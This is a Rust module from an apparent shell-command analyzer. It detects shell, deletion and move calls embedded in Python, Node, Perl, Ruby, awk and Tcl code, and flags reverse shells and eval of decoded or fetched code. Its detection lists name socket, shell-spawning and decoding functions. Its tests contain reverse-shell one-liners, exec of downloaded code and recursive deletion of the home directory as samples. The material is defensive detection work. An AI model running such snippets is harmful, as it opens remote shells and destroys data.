//! Calls of a shell or a program in code of other languages: `os.system("…")`, `execSync("…")`, `system("…")` of awk, and
//! functions that delete or move files. The code is not parsed: the name of such a function with a following text counts.

mod candidates;
mod computed;
mod notations;
mod runners;
mod text_arguments;

use crate::analysis::analyzer::Analyzer;
use crate::analysis::code::is_wholly_unknown;
use crate::analysis::field::Field;
use crate::programs::inline_calls::notations::{
    escapes, in_backticks, opens_computed, opens_field, piped, pipes_hidden, recipes, tcl,
    written_directories,
};
use crate::programs::inline_calls::runners::{MOVED, RUNNERS, Runner, RunnerArguments};
use crate::programs::inline_calls::text_arguments::{TextArguments, literal};
use crate::programs::languages::SourceLanguage;
use crate::programs::table;
use crate::{Access, Doubt};

pub(crate) use crate::programs::inline_calls::candidates::piped_name;
pub use crate::programs::inline_calls::computed::written_patterns;
pub(crate) use crate::programs::inline_calls::computed::{computed, is_whole_tree};
pub(crate) use crate::programs::inline_calls::notations::{with_joined_lines, with_make_variables};
pub(crate) use crate::programs::inline_calls::text_arguments::{joined_texts, json_values};

/// Further calls of one code are not looked at, which is a doubt.
const MAX_CALLS: usize = 512;

/// How code names the home directory.
const HOMES: &[&str] = &[
    "require('os').homedir()",
    "require(\"os\").homedir()",
    "os.homedir()",
    "homedir()",
    "process.env.HOME",
    "os.environ['HOME']",
    "os.environ[\"HOME\"]",
    "os.getenv('HOME')",
    "os.getenv(\"HOME\")",
    "getenv('HOME')",
    "getenv(\"HOME\")",
    "Path.home()",
    "Dir.home",
    "ENV['HOME']",
    "ENV[\"HOME\"]",
    "$ENV{HOME}",
];

/// Functions that replace a `~`.
const EXPANDING: &[&str] = &["os.path.expanduser(", "File.expand_path(", "path.expanduser("];

/// Functions that produce text from other data: from the network, or from an encoding.
const DECODING: &[&str] = &[
    "atob(",
    "b64decode",
    "base64",
    "codecs.decode",
    "decompress",
    "fetch(",
    "file_get_contents('http",
    "file_get_contents(\"http",
    "fromhex",
    "gzinflate",
    "http.get",
    "https.get",
    "httpx.",
    "marshal",
    "net::http",
    "open-uri",
    "requests.",
    "str_rot13",
    "unhexlify",
    "urllib",
    "urlopen",
];

/// Names that connect code to another machine, and shells that it may get.
const CONNECTING: &[&str] = &["socket", "Socket", "fsockopen", "net.connect", "createConnection"];
const SHELL_NAMES: &[&str] =
    &["/bin/sh", "/bin/bash", "/bin/zsh", "\"sh\"", "'sh'", "\"bash\"", "'bash'", "cmd.exe", "powershell"];
const GIVING: &[&str] = &["dup2", "pty.spawn", "spawn(", "exec(", "subprocess", "popen", ".pipe("];

/// Runs what code in another language passes to a shell, or starts itself. It may use the values that it gets.
pub(crate) fn run_calls(analyzer: &mut Analyzer<'_>, interpreter: &str, code: &str, given: &[Field]) {
    if !analyzer.work(code.len()) {
        return;
    }
    let at_home = analyzer.home().and_then(|home| with_home(code, home));
    let code = at_home.as_deref().unwrap_or(code);
    if evaluates_hidden(code) {
        analyzer.doubt_script(interpreter);
    }
    let (mut found, mut hides_call) = calls(interpreter, code);
    // `getattr(os, 'sys' + 'tem')`
    hides_call |= given.iter().any(|text| names_runner(interpreter, &text.text));
    if evaluates(code) {
        for text in given.iter().filter(|text| !is_wholly_unknown(text)) {
            let (more, hides_more) = calls(interpreter, &text.text);
            found.extend(more);
            hides_call |= hides_more;
        }
    }
    if gives_shell(code) {
        found.push(InlineCall::Words(["nc", "-e", "/bin/sh"].map(Field::literal).into()));
    }
    let language = SourceLanguage::of(interpreter);
    computed_names(analyzer, language, code);
    let (more, hides_more) = notation(interpreter, language, code);
    found.extend(more);
    hides_call |= hides_more;
    // What the code is given or computes may be a part of what it runs.
    hides_call |= found.iter().any(InlineCall::is_bare_shell) || !found.is_empty() && !given.is_empty();
    if found.len() > MAX_CALLS {
        analyzer.doubt(Doubt::TooMany("calls in code"));
    }
    for call in found.into_iter().take(MAX_CALLS) {
        run_call(analyzer, &call);
    }
    if hides_call {
        candidates::run(analyzer, language, code, given);
    }
}

/// Files whose names awk and Tcl compute from what they read.
fn computed_names(analyzer: &mut Analyzer<'_>, language: Option<SourceLanguage>, code: &str) {
    let command = analyzer.last_command();
    match language {
        Some(SourceLanguage::Tcl) if opens_computed(code) => {
            analyzer.touch(Access::Read, &Field::unknown("a file whose name the code computes"), command);
        }
        Some(SourceLanguage::Awk) => {
            for directory in written_directories(code) {
                analyzer.touch(Access::Write, &Field::literal(format!("{directory}name")), command);
            }
            if opens_field(code) {
                analyzer.touch(Access::Read, &Field::unknown("a file that the input names"), command);
            }
        }
        _ => {}
    }
}

/// What code runs in a notation of its language, and whether it hides some of that.
fn notation(interpreter: &str, language: Option<SourceLanguage>, code: &str) -> (Vec<InlineCall>, bool) {
    let (mut found, mut hides_call) = (Vec::new(), false);
    if let Some(SourceLanguage::Julia | SourceLanguage::Perl | SourceLanguage::Php | SourceLanguage::Ruby) =
        language
    {
        let commands = in_backticks(code);
        hides_call |=
            commands.iter().any(|call| matches!(call, InlineCall::Text(text) if text.text.contains('$')));
        found.extend(commands);
    }
    match language {
        Some(SourceLanguage::Tcl) => {
            found.extend(tcl(code));
            hides_call |= code.contains("exec") && code.contains('$');
        }
        Some(SourceLanguage::Make) => found.extend(recipes(code)),
        Some(SourceLanguage::Awk) => {
            found.extend(piped(code));
            hides_call |= pipes_hidden(code);
        }
        Some(SourceLanguage::Perl | SourceLanguage::Ruby) => found.extend(candidates::pipes(language, code)),
        // `"CODE".execute()` and `"CODE".!`.
        Some(SourceLanguage::Groovy) => hides_call |= code.contains(".execute("),
        Some(SourceLanguage::Scala) => hides_call |= code.contains("sys.process"),
        Some(SourceLanguage::Python) if interpreter.starts_with("ipython") => found.extend(escapes(code)),
        _ => {}
    }
    (found, hides_call)
}

/// Functions that run code of the same language.
const EVALUATORS: &[&str] = &[
    "Function",
    "compile",
    "eval",
    "exec",
    "instance_eval",
    "interact",
    "runInNewContext",
    "runInThisContext",
    "runcode",
    "runsource",
];

fn evaluates(code: &str) -> bool {
    // `s/x/CODE/ee` of Perl.
    code.contains("/ee") || code.split(|c| !is_part(c)).any(|word| EVALUATORS.contains(&word))
}

/// Whether a text is the name of a function that runs programs.
fn names_runner(interpreter: &str, text: &str) -> bool {
    let language = SourceLanguage::of(interpreter);
    let is_named = |runner: &&Runner| runner.takes.runs() && runner.names.contains(&text);
    RUNNERS.iter().filter(is_named).any(|runner| runner.languages.is_empty() || runner.is_for(language, text))
}

fn run_call(analyzer: &mut Analyzer<'_>, call: &InlineCall) {
    analyzer.as_part(|analyzer| {
        analyzer.subshell(|analyzer| match call {
            InlineCall::Text(text) => analyzer.code(text, "sh"),
            InlineCall::Words(words) => analyzer.deeper(|analyzer| analyzer.run_fields(words)),
        });
    });
}

/// What a call runs.
#[derive(Debug, PartialEq)]
enum InlineCall {
    Text(Field),
    Words(Vec<Field>),
}

impl InlineCall {
    /// Whether it is a shell that reads its commands from what the code writes to it.
    fn is_bare_shell(&self) -> bool {
        let mut words = match self {
            InlineCall::Text(text) => text.text.split(' ').collect::<Vec<_>>(),
            InlineCall::Words(words) => words.iter().map(|word| word.text.as_str()).collect(),
        };
        words.retain(|word| !word.starts_with('-'));
        let program = words.first().and_then(|word| table::by_name(table::name_of(word)));
        words.len() == 1 && program.is_some_and(|program| program.quotes_like_sh)
    }

    /// Whether a part of it is unknown.
    fn has_gap(&self) -> bool {
        match self {
            InlineCall::Text(text) => !text.is_literal(),
            InlineCall::Words(words) => !words.iter().all(Field::is_literal),
        }
    }
}

/// The directory to which code goes first: `os.chdir('x')`.
pub(crate) fn directory_of(code: &str) -> Option<String> {
    let rest = code.split_once("chdir")?.1.trim_start_matches([' ', '(']);
    let (directory, _) = literal(rest)?;
    if directory.is_literal() { Some(directory.text) } else { None }
}

fn is_part(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// Code with the path of the home directory, if it asks for that. `None` if it does not.
fn with_home(code: &str, home: &str) -> Option<String> {
    let mut replaced: Option<String> = None;
    let mut replace = |from: &str, to: &str| {
        let text = replaced.as_deref().unwrap_or(code);
        if text.contains(from) {
            replaced = Some(text.replace(from, to));
        }
    };
    if code.contains('~') {
        for name in EXPANDING {
            for quote in ['"', '\''] {
                replace(&format!("{name}{quote}~"), &format!("{quote}{home}"));
            }
        }
    }
    if code.contains("home") || code.contains("HOME") {
        HOMES.iter().for_each(|name| replace(name, &format!("\"{home}\"")));
    }
    replaced
}

/// Whether code evaluates data from the network or from an encoding.
fn evaluates_hidden(code: &str) -> bool {
    const EVALUATING: &[&str] =
        &["exec", "eval", "Function", "instance_eval", "runInThisContext", "runInNewContext"];
    let evaluates = EVALUATING.iter().any(|name| {
        code.match_indices(name).any(|(at, name)| {
            let before = code.get(..at).unwrap_or_default();
            let after = code.get(at + name.len()..).unwrap_or_default();
            let argument = after.trim_start().trim_start_matches('(').trim_start();
            let is_called = after.starts_with(['(', ' ']) && argument.len() < after.len();
            !before.ends_with(|c: char| is_part(c) || c == '.') && is_called && literal(argument).is_none()
        })
    });
    evaluates && {
        let code = code.to_ascii_lowercase();
        DECODING.iter().any(|name| code.contains(name)) || code.contains("buffer.from(")
    }
}

/// Whether code gives a shell to another machine, as `nc -e` does.
fn gives_shell(code: &str) -> bool {
    let has = |names: &[&str]| names.iter().any(|name| code.contains(name));
    has(CONNECTING) && has(SHELL_NAMES) && has(GIVING)
}

/// What makes the path of a file, and its methods that delete it.
const PATHS: &[&str] = &["Path(", "File(", "Pathname.new(", "Pathname("];
const DELETING: &[&str] = &["unlink", "rmdir", "rmtree", "delete", "deleteDir", "deleteRecursively"];

/// The text in `Path("…").unlink()`.
fn path_before(before: &str) -> Option<Field> {
    let before = before.strip_suffix(").")?;
    let inner = PATHS.iter().find_map(|path| Some(before.rsplit_once(path)?.1))?;
    let (text, rest) = literal(inner.trim())?;
    if rest.is_empty() { Some(text) } else { None }
}

/// What follows the name of a function, with the text of the variable that is its first argument: `(p)` after `p = '/x'` is `('/x')`.
fn with_constant(code: &str, rest: &str) -> Option<String> {
    let inner = rest.trim_start();
    let inner = inner.strip_prefix('(').unwrap_or(inner).trim_start();
    let length = inner.find(|c| !is_part(c) && c != '$').unwrap_or(inner.len());
    let (name, after) = inner.split_at_checked(length)?;
    if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
        return None;
    }
    let is_whole = after.trim_start().is_empty() || after.trim_start().starts_with([',', ')', ';', '\n']);
    if is_whole { Some(format!("({}{after}", constant(code, name)?)) } else { None }
}

/// The text, in its quotes, that a name is set to once.
fn constant<'c>(code: &'c str, name: &str) -> Option<&'c str> {
    let mut found = None;
    for (at, _) in code.match_indices(name) {
        let before = code.get(..at).unwrap_or_default();
        let rest = code.get(at + name.len()..).unwrap_or_default();
        if before.ends_with(|c| is_part(c) || c == '.') || rest.starts_with(is_part) {
            continue;
        }
        let Some(value) =
            rest.trim_start().strip_prefix('=').filter(|value| !value.starts_with(['=', '>', '~']))
        else {
            continue;
        };
        let value = value.trim_start();
        let (_, after) = literal(value)?;
        // A text that something is joined to is another one.
        let is_whole = after.trim_start_matches([' ', '\t']).is_empty()
            || after.trim_start_matches([' ', '\t']).starts_with([';', '\n', ',', ')', '}']);
        if found.is_some() || !is_whole {
            return None;
        }
        found = value.get(..value.len() - after.len());
    }
    found
}

/// The calls that a code shows, and whether it has others: a function that is named and not called, or called with something else.
fn calls(interpreter: &str, code: &str) -> (Vec<InlineCall>, bool) {
    let (mut found, mut hides_call) = (Vec::new(), false);
    let language = SourceLanguage::of(interpreter);
    let runners: Vec<&Runner> = RUNNERS.iter().filter(|runner| runner.is_for(language, code)).collect();
    let mut at = 0;
    while let Some(start) = code.get(at..).and_then(|rest| rest.find(is_part)).map(|start| at + start) {
        let rest = code.get(start..).unwrap_or_default();
        let name = rest.get(..rest.find(|c| !is_part(c)).unwrap_or(rest.len())).unwrap_or_default();
        at = start + name.len().max(1);
        let before = code.get(..start).unwrap_or_default();
        if DELETING.contains(&name)
            && let Some(path) = path_before(before)
        {
            found.push(InlineCall::Words(vec![Field::literal("rm"), Field::literal("-rf"), path]));
            continue;
        }
        let Some(runner) = runner_of(&runners, name, before) else { continue };
        let rest = code.get(at..).unwrap_or_default();
        // `File.rm!(…)` of Elixir.
        let rest = rest.strip_prefix('!').filter(|rest| rest.starts_with('(')).unwrap_or(rest);
        let is_many = found.len() >= MAX_CALLS;
        let constant = if runner.takes.runs() || is_many { None } else { with_constant(code, rest) };
        let rest = constant.as_deref().unwrap_or(rest);
        let bare = if language == Some(SourceLanguage::Perl) { bareword(rest) } else { None };
        match call(runner.takes, rest).or(bare) {
            Some(call) => {
                // A text that is joined to others may be part of another text.
                hides_call |= runner.takes.runs() && call.has_gap();
                found.push(call);
            }
            None => hides_call |= runner.takes.runs() && may_run(language, rest),
        }
    }
    (found, hides_call)
}

/// What a function of this name does, if the code before it says that it is that function.
fn runner_of<'r>(runners: &[&'r Runner], name: &str, before: &str) -> Option<&'r Runner> {
    let is_owner = |owner: &&str| before.ends_with(owner);
    let is_meant = |runner: &&&Runner| {
        runner.names.contains(&name) && (runner.owners.is_empty() || runner.owners.iter().any(is_owner))
    };
    let runner = runners.iter().find(is_meant)?;
    // `.exec(…)` is mostly a method of something else.
    let is_method = before.ends_with('.')
        && !["child_process.", "cp.", "getRuntime().", "\").", "').", "`)."]
            .iter()
            .any(|owner| before.ends_with(owner));
    if name == "exec" && is_method { None } else { Some(runner) }
}

/// Perl takes a word without quotes for a text: `system ls`.
fn bareword(rest: &str) -> Option<InlineCall> {
    let rest = rest.strip_prefix([' ', '('])?.trim_start();
    let word = rest.get(..rest.find(|c| !is_part(c) && c != '-').unwrap_or(rest.len()))?;
    let is_word = word.starts_with(|c: char| c.is_ascii_alphabetic()) && !matches!(word, "q" | "qq" | "qw");
    if is_word { Some(InlineCall::Text(Field::literal(word))) } else { None }
}

/// Whether the name of a function and the code after it may run something. `system()` does not, nor does a name in a text, a key or
/// a definition.
fn may_run(language: Option<SourceLanguage>, rest: &str) -> bool {
    let is_language = language.is_some_and(|language| language != SourceLanguage::Make);
    let rest = rest.trim_start();
    let is_empty_call = rest.strip_prefix('(').is_some_and(|inner| inner.trim_start().starts_with(')'));
    is_language && !is_empty_call
}

/// A call, from the code after the name of its function.
fn call(takes: RunnerArguments, rest: &str) -> Option<InlineCall> {
    let rest = rest.trim_start();
    let rest = match rest.strip_prefix('(') {
        Some(inner) => inner,
        None if rest.starts_with(['"', '\'', '`']) => rest,
        None => return None,
    };
    let arguments = TextArguments::read(rest);
    let mut words = arguments.words;
    if takes == RunnerArguments::ModeNameAndWords && !words.is_empty() {
        words.remove(0);
    }
    if matches!(takes, RunnerArguments::ModeNameAndWords | RunnerArguments::NameAndWords) && !words.is_empty()
    {
        // The program may have another name for itself.
        let own_name = usize::from(words.len() > 1 && !words.first().is_some_and(is_wholly_unknown));
        words.remove(own_name);
    }
    let first = words.first().filter(|first| !is_wholly_unknown(first))?;
    if let RunnerArguments::Operands(command) = takes {
        let command = command.iter().map(|word| Field::literal(*word));
        // An option or a function follows the path.
        let count = if takes == MOVED { 2 } else { usize::MAX };
        let operands = words.into_iter().take(count).filter(|word| !is_wholly_unknown(word));
        return Some(InlineCall::Words(command.chain(operands).collect()));
    }
    let is_text = match takes {
        RunnerArguments::Text => true,
        RunnerArguments::TextOrWords => !arguments.is_list && words.len() == 1,
        // `spawn('ls -l', {shell: true})`
        _ => !arguments.is_list && words.len() == 1 && first.text.contains(' '),
    };
    Some(if is_text { InlineCall::Text(first.clone()) } else { InlineCall::Words(words) })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(interpreter: &str, code: &str) -> Vec<String> {
        let mut found = calls(interpreter, code).0;
        if interpreter == "awk" {
            found.extend(piped(code));
        }
        let text = |call: InlineCall| match call {
            InlineCall::Text(text) => text.text,
            InlineCall::Words(words) => words.iter().map(|word| format!("[{}]", word.text)).collect(),
        };
        found.into_iter().map(text).collect()
    }

    #[test]
    fn texts_for_a_shell_are_found() {
        for (interpreter, code, expected) in [
            ("python3", "os.system('ls -l')", "ls -l"),
            ("python3", "os.system(r'a\\b')", "a\\b"),
            ("python3", "os.system(\"\\x72m \\162\")", "rm r"),
            ("python3", "os.system(f'rm {name} x')", "rm $x x"),
            ("python3", "os.system('rm ' + name)", "rm $x$x"),
            ("python3", "os.popen('''a\nb''').read()", "a\nb"),
            ("python3", "subprocess.run('a b', shell=True, cwd='/x')", "a b"),
            ("python3", "subprocess.run(['a', 'b c'], check=True)", "[a][b c]"),
            ("python3", "subprocess.run(['a', path, 'c'])", "[a][$x][c]"),
            ("node", "cp.execSync(`a ${b.c('}')} d`)", "a $x d"),
            ("node", "require('child_process').exec('a b', (e) => { f(e) })", "a b"),
            ("node", "spawnSync('a', ['b', 'c'], {cwd: 'd'})", "[a][b][c]"),
            ("perl", "system 'a b';", "a b"),
            ("perl", "system('a', 'b')", "[a][b]"),
            ("ruby", "system(\"a #{b} c\")", "a $x c"),
            ("python3", "import shutil\nshutil.rmtree('/a', ignore_errors=True)", "[rm][-rf][/a]"),
            ("python3", "os.remove('a')", "[rm][-rf][a]"),
            ("python3", "Path('/a').unlink(missing_ok=True)", "[rm][-rf][/a]"),
            ("python3", "shutil.move('/a', 'b')", "[mv][/a][b]"),
            ("node", "require('fs').rmSync('/a', {recursive: true, force: true})", "[rm][-rf][/a]"),
            ("node", "fs.rm('a', { recursive: true }, () => {})", "[rm][-rf][a]"),
            ("node", "fs.rmSync(`${d}/a`)", "[rm][-rf][$x/a]"),
            ("perl", "unlink 'a', 'b';", "[rm][-rf][a][b]"),
            ("ruby", "FileUtils.rm_rf('/a')", "[rm][-rf][/a]"),
            ("ruby", "FileUtils.rm_rf(['a', 'b'])", "[rm][-rf][a][b]"),
            ("php", "unlink('a');", "[rm][-rf][a]"),
            ("awk", "BEGIN { system(\"a\" ) }", "a"),
            ("awk", "{ print $1 | \"sort -u\" }", "sort -u"),
            ("awk", "{ \"date\" | getline x }", "date"),
        ] {
            assert_eq!(shown(interpreter, code), [expected], "{code}");
        }
    }

    #[test]
    fn the_home_directory_is_known_in_code() {
        for (code, expected) in [
            ("rmtree(os.path.expanduser('~/a'))", "[rm][-rf][/h/a]"),
            ("fs.rmSync(os.homedir())", "[rm][-rf][/h]"),
            ("fs.rmSync(process.env.HOME + '/a')", "[rm][-rf][/h$x/a]"),
            ("rmtree(Path.home())", "[rm][-rf][/h]"),
            ("FileUtils.rm_rf(Dir.home)", "[rm][-rf][/h]"),
        ] {
            assert_eq!(shown("ruby", &with_home(code, "/h").unwrap()), [expected], "{code}");
        }
        assert_eq!(with_home("print('a ~ b')", "/h"), None);
    }

    #[test]
    fn code_that_evaluates_what_it_decodes_or_gets_is_told_from_other_code() {
        for code in [
            "exec(base64.b64decode('eA=='))",
            "exec(urllib.request.urlopen('http://x').read())",
            "import requests; exec(requests.get('http://x').text)",
            "eval(Buffer.from('eA==', 'base64').toString())",
            "eval(atob('eA=='))",
            "new Function(atob('eA=='))()",
            "use MIME::Base64; eval decode_base64('eA==')",
        ] {
            assert!(evaluates_hidden(code), "{code}");
        }
        for code in [
            "print(base64.b64decode('eA=='))",
            "eval('1 + 1'); base64.b64encode(x)",
            "exec(open('a.py').read())",
            "pattern.exec(text); fetch('http://x')",
            "function f() { return fetch('/x') }",
            "cursor.execute(query); requests.get(x)",
        ] {
            assert!(!evaluates_hidden(code), "{code}");
        }
    }

    #[test]
    fn a_shell_for_another_machine_is_found() {
        for code in [
            "s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
            "c=new net.Socket();c.connect(1,'h',()=>{s=spawn('sh',[]);c.pipe(s.stdin)})",
            "f=TCPSocket.open('h',1).to_i;exec sprintf('/bin/sh -i <&%d',f); exec(x)",
        ] {
            assert!(gives_shell(code), "{code}");
        }
        for code in ["s=socket.socket(); s.connect(('h', 1))", "subprocess.run(['/bin/sh', '-c', 'ls'])"] {
            assert!(!gives_shell(code), "{code}");
        }
    }

    #[test]
    fn other_code_runs_nothing() {
        for (interpreter, code) in [
            ("python3", "exec('print(1)')"),
            ("python3", "operating_system('x')"),
            ("python3", "system = 'x'"),
            ("python3", "os.system(command)"),
            ("python3", "app.run('x')"),
            ("node", "/a/.exec('b')"),
            ("node", "require('child_process'); db.exec('create table x (a int)')"),
            ("awk", "{ print $1 \" | \" f(x) \" | \" $2 }"),
            ("awk", "$1 == \"a\" || $2 == \"b\""),
            ("python3", "names.remove('/a')"),
            ("python3", "'a'.replace('/a', 'b')"),
            ("python3", "shutil.rmtree(directory)"),
            ("node", "map.delete('/a'); list.remove('/b')"),
            ("ruby", "hash.delete('/a')"),
        ] {
            assert_eq!(shown(interpreter, code), Vec::<String>::new(), "{code}");
        }
    }
}
